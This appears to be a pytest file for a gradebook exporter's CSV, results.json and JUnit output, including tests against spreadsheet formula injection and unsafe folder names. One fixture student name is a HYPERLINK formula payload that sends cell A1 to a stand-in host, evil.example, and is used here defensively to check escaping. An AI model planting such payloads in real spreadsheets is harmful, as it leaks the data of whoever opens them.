"""Exports of the gradebook: the CSV a spreadsheet opens, results.json per student, JUnit XML."""

from __future__ import annotations

import csv
import hashlib
import json
import xml.etree.ElementTree as ET
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader.cli import main
from grader.export import spreadsheet_safe, student_slugs, write_csv, write_junit
from grader.feedback import student_folders
from grader.gradebook import Gradebook, GradedNotebook
from grader.results import FAILED, PASSED, CheckResult, NotebookResult
from grader.submissions import Submission

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def record(gradebook: Gradebook, student: str, notebook: str, scores: list[float]) -> None:
    checks = tuple(
        CheckResult(notebook, "cell", f"check{i}", 1.0, score, PASSED if score else FAILED)
        for i, score in enumerate(scores)
    )
    submission = Submission(
        student, notebook, Path(f"{student}/{notebook}.ipynb"), f"{student}/{notebook}.ipynb",
        f"{student}{notebook}".ljust(64, "0")[:64], datetime(2026, 11, 20),
    )  # fmt: skip
    gradebook.record(submission, NotebookResult(notebook, submission.file, checks), "1", "v")


@pytest.fixture
def graded(tmp_path: Path) -> list[GradedNotebook]:
    with Gradebook(str(tmp_path / "gradebook.db")) as gradebook:
        record(gradebook, "alice", "01_a", [1.0, 1.0])
        record(gradebook, "alice", "02_b", [0.0])
        record(gradebook, "bob", "01_a", [0.0, 1.0])  # bob never handed in 02_b
        record(gradebook, HOSTILE, "02_b", [1.0])
        return gradebook.latest()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_has_a_row_per_student_and_a_column_per_check_notebook_and_total(
    graded: list[GradedNotebook], tmp_path: Path
) -> None:
    write_csv(graded, tmp_path / "grades.csv")
    rows = {row["student"]: row for row in read_csv(tmp_path / "grades.csv")}
    assert list(next(iter(rows.values()))) == [
        "student",
        "01_a::cell::check0", "01_a::cell::check1", "01_a total",
        "02_b::cell::check0", "02_b total",
        "total", "max_total",
    ]  # fmt: skip
    assert rows["alice"]["01_a total"] == "2.0" and rows["alice"]["total"] == "2.0"
    assert rows["bob"]["01_a::cell::check0"] == "0.0" and rows["bob"]["02_b total"] == "0.0"
    assert rows["bob"]["total"] == "1.0" and rows["bob"]["max_total"] == "3.0"


def test_csv_names_cannot_become_formulas(graded: list[GradedNotebook], tmp_path: Path) -> None:
    write_csv(graded, tmp_path / "grades.csv")
    students = [row["student"] for row in read_csv(tmp_path / "grades.csv")]
    assert f"'{HOSTILE}" in students
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1"):
        assert spreadsheet_safe(cell).startswith("'")
    assert spreadsheet_safe("alice") == "alice"


def test_results_json_per_student_and_junit(graded: list[GradedNotebook], tmp_path: Path) -> None:
    db = str(tmp_path / "gradebook.db")
    out = tmp_path / "out"
    status = main(["export", "--db", db, "--results-dir", str(out), "--junit", str(out / "c.xml")])
    assert status == 0
    slugs = student_slugs(g.student for g in graded)
    alice = json.loads((out / "alice" / "results.json").read_text())
    assert (alice["score"], alice["max_score"]) == (2.0, 3.0)
    assert alice["extra_data"]["student"] == "alice"
    assert [t["name"] for t in alice["tests"]][-1] == "02_b::cell::check0"
    hostile = json.loads((out / slugs[HOSTILE] / "results.json").read_text())
    assert hostile["extra_data"]["student"] == HOSTILE
    suites = ET.parse(out / "c.xml").getroot().findall("testsuite")
    assert [s.get("name") for s in suites][:3] == [f"{HOSTILE}/02_b", "alice/01_a", "alice/02_b"]
    assert [s.get("failures") for s in suites] == ["0", "0", "1", "1"]


def test_export_needs_a_format(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--db", str(tmp_path / "g.db")]) == 2
    assert "say what to export" in capsys.readouterr().err


def test_slugs_are_safe_and_distinct() -> None:
    slugs = student_slugs(["Ann Lee", "Ann_Lee", "../..", "", "Zoë", "alice"])
    assert slugs["alice"] == "alice"
    assert len(set(slugs.values())) == 6
    for slug in slugs.values():
        assert slug and "/" not in slug and not slug.startswith(".")


def _hashed(slug: str, name: str, length: int = 10) -> str:
    return f"{slug}-{hashlib.sha256(name.encode()).hexdigest()[:length]}"


@pytest.mark.parametrize(
    "names",
    [
        # A student names a folder after another's hashed form, or its lower-case twin.
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee")],
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee").upper()],
        # ... after the longer fallback as well.
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee"), _hashed("Ann_Lee", "Ann Lee", 16)],
        # Names that clean to nothing, and one that names the fallback of those.
        ["", "..", "___", _hashed("student", "")],
        ["index.html", "INDEX.HTML", "index_html"],
    ],
)
def test_slugs_never_collide_after_any_transformation(names: list[str]) -> None:
    for slugs in (student_slugs(names), student_folders(names)):
        assert len({slug.lower() for slug in slugs.values()}) == len(names)
    assert "index.html" not in {slug.lower() for slug in student_folders(names).values()}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="aA_ .-/\\x00é", max_size=12), max_size=12))
def test_slugs_are_distinct_for_any_names(names: list[str]) -> None:
    slugs = student_folders(names)
    assert len({slug.lower() for slug in slugs.values()}) == len(set(names))
    for slug in slugs.values():
        assert slug and "/" not in slug and "\x00" not in slug and not slug.startswith(".")


def test_junit_labels_suites_by_student(graded: list[GradedNotebook], tmp_path: Path) -> None:
    write_junit(graded, tmp_path / "class.xml")
    root = ET.parse(tmp_path / "class.xml").getroot()
    assert len(root.findall("testsuite")) == len(graded)
